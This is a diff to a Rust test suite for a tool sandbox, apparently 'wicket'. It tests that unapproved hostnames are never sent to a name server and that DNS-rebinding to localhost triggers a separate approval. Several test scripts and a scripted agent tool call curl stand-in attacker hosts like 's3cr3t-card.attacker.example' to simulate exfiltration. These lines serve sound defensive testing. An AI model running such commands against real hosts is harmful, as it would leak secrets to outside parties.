@@ -157,7 +157,10 @@ fn a_host_no_rule_names_is_a_net_card_and_denied_reaches_nothing() {
     assert_eq!(card["kind"], "net");
     assert_eq!(card["host"], "localhost");
     assert_eq!(card["port"], upstream.port());
-    assert_eq!(card["local"], true, "localhost resolves to a local address");
+    assert!(
+        card.get("local").is_none() && card.get("addresses").is_none(),
+        "decided by its name, before any lookup: {card:#}"
+    );
     assert_eq!(card["argv"], json!(argv));
     assert_eq!(result(&out)["stdout"], "403", "{out:#?}");
     assert_eq!(upstream.accepts(), 0, "no byte reached the server");
@@ -216,7 +219,11 @@ fn allowed_for_the_session_a_second_command_reaches_the_host_without_a_card() {
         return;
     };
     let first = networked(&f, &["curl", "-s", &url], "s", "allow_session");
-    assert_eq!(cards(&first).len(), 1, "{first:#?}");
+    assert_eq!(
+        cards(&first).len(),
+        2,
+        "the name, then its local address: {first:#?}"
+    );
     assert_eq!(
         result(&first)["stdout"],
         String::from_utf8_lossy(BODY).as_ref()
@@ -466,7 +473,13 @@ fn allow_once_lets_a_host_for_the_rest_of_the_command_and_always_saves_a_net_rul
     };
     let twice = format!("curl -s {url}; curl -s {url}");
     let out = networked(&f, &["sh", "-c", &twice], "s", "allow_once");
-    assert_eq!(cards(&out).len(), 1, "one card for the host: {out:#?}");
+    let asked = cards(&out);
+    assert_eq!(
+        asked.len(),
+        2,
+        "one card for the name, one for the local address it resolved to: {out:#?}"
+    );
+    assert!(asked[0].get("local").is_none() && asked[1]["local"] == true);
     assert_eq!(upstream.accepts(), 2);
     // The next command asks again; allow_always saves the rule that ends that.
     let out = networked(&f, &["curl", "-s", &url], "s", "allow_always");
@@ -531,4 +544,219 @@ fn the_request_after_a_command_that_found_no_network_tells_the_model_to_ask_for_
         note.contains("no network") && note.contains("\"network\": true"),
         "{result:#}"
     );
+}
+
+/// Runs `wicket tool run ARGS` (in session `s` of `f`, each card answered
+/// with the next of `answers`) in a network of its own: [`in_a_network`].
+fn in_a_network_of_its_own(f: &Fixture, args: Value, names: Value, answers: &[&str]) -> Value {
+    let ws = f.ws.display().to_string();
+    let wicket = [
+        "tool",
+        "run",
+        &args.to_string(),
+        "--workspace",
+        &ws,
+        "--session",
+        "s",
+        "--answers",
+        "stdin",
+    ];
+    in_a_network(f, &wicket, names, answers)
+}
+
+/// Runs `wicket WICKET…` (with `f`'s home) in a network of its own that the
+/// test makes (`tests/dns/netns.py`, under `unshare`): a name server on
+/// 127.0.0.1 that answers `names` and logs every name it is asked, and a
+/// service on 127.0.0.1 that logs each connection (`{port}` in an argument
+/// is its port). Each card the command prints is answered with the next of
+/// `answers`. The report: `queries`, `accepts`, `lines`, `stderr`, `code`.
+fn in_a_network(f: &Fixture, wicket: &[&str], names: Value, answers: &[&str]) -> Value {
+    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/dns/netns.py");
+    let mut command = vec![env!("CARGO_BIN_EXE_wicket")];
+    command.extend_from_slice(wicket);
+    let spec = json!({
+        "names": names,
+        "answers": answers,
+        "command": command,
+        "env": {"WICKET_HOME": f.home, "NO_COLOR": "1"},
+    });
+    let spec_path = f.root.join("netns.json");
+    std::fs::write(&spec_path, spec.to_string()).unwrap();
+    let mut unshare = Command::new("unshare");
+    // Root makes the namespaces itself; anyone else in a user namespace of their own.
+    if !rustix::process::geteuid().is_root() {
+        unshare.args(["--user", "--map-root-user"]);
+    }
+    let output = unshare
+        .args(["--net", "--mount", "python3"])
+        .arg(&script)
+        .arg(&spec_path)
+        .output()
+        .unwrap();
+    assert!(
+        output.status.success(),
+        "the test's network could not be made: {}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    serde_json::from_slice(&output.stdout).unwrap_or_else(|error| {
+        panic!(
+            "{error}: {}\n{}",
+            String::from_utf8_lossy(&output.stdout),
+            String::from_utf8_lossy(&output.stderr)
+        )
+    })
+}
+
+fn asked_names(report: &Value) -> Vec<String> {
+    report["queries"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|query| query["name"].as_str().unwrap().to_string())
+        .collect()
+}
+
+fn net_cards(report: &Value) -> Vec<Value> {
+    report["lines"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|line| line["type"] == "card" && line["kind"] == "net")
+        .cloned()
+        .collect()
+}
+
+#[test]
+fn a_name_no_one_allowed_is_never_sent_to_a_name_server() {
+    if !(have("curl") && have("python3") && have("unshare") && have("ip")) {
+        return;
+    }
+    let f = Fixture::new();
+    config(&f, &[]);
+    let mut rules = std::fs::read_to_string(f.home.join("config.toml")).unwrap();
+    rules.push_str("[[rules]]\naction = \"deny\"\ntool = \"net\"\nhost = \"*.ruled.example\"\n");
+    std::fs::write(f.home.join("config.toml"), rules).unwrap();
+    let names = json!({"allowed.example": ["93.184.216.34"]});
+    // Denied at its card, by a deny rule, and over SOCKS5 (socks5h: the
+    // proxy resolves); then one name allowed, the control that shows the
+    // name server is the one Wicket asks.
+    let script = "curl -s -S -m 5 http://s3cr3t-card.attacker.example/; \
+                  curl -s -S -m 5 http://s3cr3t-rule.ruled.example/; \
+                  curl -s -S -m 5 --proxy \"$ALL_PROXY\" http://s3cr3t-socks.attacker.example/; \
+                  curl -s -S -m 5 http://allowed.example/";
+    let report = in_a_network_of_its_own(
+        &f,
+        json!({"argv": ["sh", "-c", script], "network": true}),
+        names,
+        &["deny", "deny", "allow_once"],
+    );
+    assert_eq!(report["code"], 0, "{report:#}");
+    let cards = net_cards(&report);
+    let hosts: Vec<&str> = cards
+        .iter()
+        .map(|card| card["host"].as_str().unwrap())
+        .collect();
+    assert_eq!(
+        hosts,
+        [
+            "s3cr3t-card.attacker.example",
+            "s3cr3t-socks.attacker.example",
+            "allowed.example"
+        ],
+        "{report:#}"
+    );
+    assert!(
+        cards.iter().all(|card| card.get("addresses").is_none()),
+        "a card on a name shows no address: nothing was looked up: {cards:#?}"
+    );
+    let asked = asked_names(&report);
+    assert!(
+        asked.iter().all(|name| !name.contains("s3cr3t")),
+        "a name no one allowed reached the name server: {asked:?}"
+    );
+    assert!(
+        asked.iter().any(|name| name == "allowed.example"),
+        "the allowed name was looked up, by this name server: {asked:?}"
+    );
+
+    // A preview has no network, and looks nothing up (no rule here: the
+    // run card is answered `preview`; exec's session keeps the checkpoints
+    // a preview is made from).
+    let g = Fixture::new();
+    let model = crate::exec::script(
+        &g,
+        "preview.json",
+        json!([
+            {"tool_calls": [{"name": "run", "arguments": {
+                "argv": ["curl", "-s", "-S", "-m", "5", "http://s3cr3t-preview.attacker.example/"],
+                "network": true, "preview": true
+            }}]},
+            {"text": "done"}
+        ]),
+    );
+    let ws = g.ws.display().to_string();
+    let report = in_a_network(
+        &g,
+        &[
+            "exec",
+            "go",
+            "--workspace",
+            &ws,
+            "--model",
+            &model,
+            "--json",
+            "--answers",
+            "stdin",
+        ],
+        json!({}),
+        &["preview", "discard"],
+    );
+    let effects = report["lines"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|line| line["kind"] == "effects")
+        .cloned()
+        .unwrap_or_else(|| panic!("no effects card: {report:#}"));
+    assert_eq!(
+        effects["wanted_hosts"],
+        json!(["s3cr3t-preview.attacker.example:80"]),
+        "{effects:#}"
+    );
+    assert_eq!(report["queries"], json!([]), "{report:#}");
+}
+
+#[test]
+fn a_name_whose_answer_turns_local_needs_a_card_of_its_own() {
+    if !(have("curl") && have("python3") && have("unshare") && have("ip")) {
+        return;
+    }
+    let f = Fixture::new();
+    config(&f, &[]);
+    // The first answer is on the internet (unreachable here), the next is
+    // this machine, where a local-only service listens.
+    let names = json!({"flip.example": ["93.184.216.34", "127.0.0.1"]});
+    let script = "curl -s -S -m 5 http://flip.example:{port}/; \
+                  curl -s -S -m 5 http://flip.example:{port}/";
+    let args = json!({"argv": ["sh", "-c", script], "network": true});
+    let report = in_a_network_of_its_own(&f, args.clone(), names.clone(), &["allow_once", "deny"]);
+    let cards = net_cards(&report);
+    assert_eq!(cards.len(), 2, "{report:#}");
+    assert!(cards[0].get("local").is_none(), "{:#}", cards[0]);
+    assert_eq!(cards[1]["local"], true, "{:#}", cards[1]);
+    assert_eq!(
+        cards[1]["addresses"],
+        json!(["127.0.0.1"]),
+        "{:#}",
+        cards[1]
+    );
+    assert_eq!(
+        report["accepts"],
+        json!([]),
+        "allow_once for the name did not open the local service: {report:#}"
+    );
+    // Allowed at its own card, the local service is reached.
+    let report = in_a_network_of_its_own(&f, args, names, &["allow_once", "allow_once"]);
+    assert_eq!(net_cards(&report).len(), 2, "{report:#}");
+    assert_eq!(report["accepts"].as_array().unwrap().len(), 1, "{report:#}");
 }
